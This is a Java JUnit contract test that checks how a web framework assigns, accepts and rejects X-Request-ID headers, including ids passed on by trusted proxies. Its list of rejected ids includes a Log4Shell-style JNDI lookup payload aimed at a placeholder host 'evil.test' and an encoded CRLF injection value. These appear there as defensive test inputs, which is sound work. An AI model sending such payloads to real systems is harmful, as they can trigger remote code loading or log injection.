package ids;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ampoule.config.Config;
import dev.ampoule.testing.TestClient;
import dev.ampoule.testing.TestResponse;
import errors.LogRecords;
import java.util.HashSet;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Ids of requests: who gives them, and who hears of them. */
abstract class IdsContract {

  /** Requests of the client come from a proxy that is trusted. */
  static final Config CONFIG = Config.of(Map.of("PROXY_FIX_TRUSTED", "127.0.0.1, ::1"));

  @Test
  void eachRequestHasAnIdThatTheClientIsTold(TestClient client) {
    Set<String> ids = new HashSet<>();
    for (int i = 0; i < 20; i++) {
      TestResponse response = client.get("/");
      assertThat(response.text()).matches("[0-9a-f]{16}").isEqualTo(told(response));
      ids.add(response.text());
    }
    assertThat(ids).hasSize(20);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/nothing", "/failure", "/middleware", "/stream", "/threads"})
  void everyAnswerHasOne(String path, TestClient client) {
    try (LogRecords log = new LogRecords("ids.IdsApp")) {
      TestResponse response = client.get(path);

      assertThat(told(response)).matches("[0-9a-f]{16}");
      if (response.status() == 200) {
        assertThat(response.text()).isEqualTo(told(response));
      }
      if (response.status() == 500) {
        assertThat(log.records())
            .singleElement()
            .satisfies(entry -> assertThat(entry.getMessage()).contains(told(response)));
      }
    }
  }

  @Test
  void theApplicationsOwnHeaderStays(TestClient client) {
    assertThat(client.get("/own").headers().get("X-Request-ID")).containsExactly("mine");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"a", "7d444840-9dc0-11d1-b245-5ffdce74fad2", "Root=1-67891233-abc/+~:.@_x"})
  void theIdOfATrustedProxyIsTaken(String id, TestClient client) {
    TestResponse response = client.get("/", request -> request.header("X-Request-ID", id));

    assertThat(response.text()).isEqualTo(id).isEqualTo(told(response));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "two words",
        "a\"b",
        "a\\b",
        "a<b>",
        "a;b",
        "a,b",
        "${jndi:ldap://evil.test/x}",
        "caf\u00e9",
        "%0d%0a"
      })
  void anIdWithOtherCharactersIsNot(String id, TestClient client) {
    assertThat(client.get("/", request -> request.header("X-Request-ID", id)).text())
        .matches("[0-9a-f]{16}");
  }

  @Test
  void neitherIsOneThatIsTooLongOrNotTheOnlyOne(TestClient client) {
    String longest = "x".repeat(128);

    assertThat(client.get("/", request -> request.header("X-Request-ID", longest)).text())
        .isEqualTo(longest);
    assertThat(client.get("/", request -> request.header("X-Request-ID", longest + "x")).text())
        .matches("[0-9a-f]{16}");
    assertThat(
            client
                .get(
                    "/", request -> request.header("X-Request-ID", "a").header("X-Request-ID", "b"))
                .text())
        .matches("[0-9a-f]{16}");
  }

  private static String told(TestResponse response) {
    return Objects.requireNonNull(response.header("X-Request-ID"), "no id");
  }
}
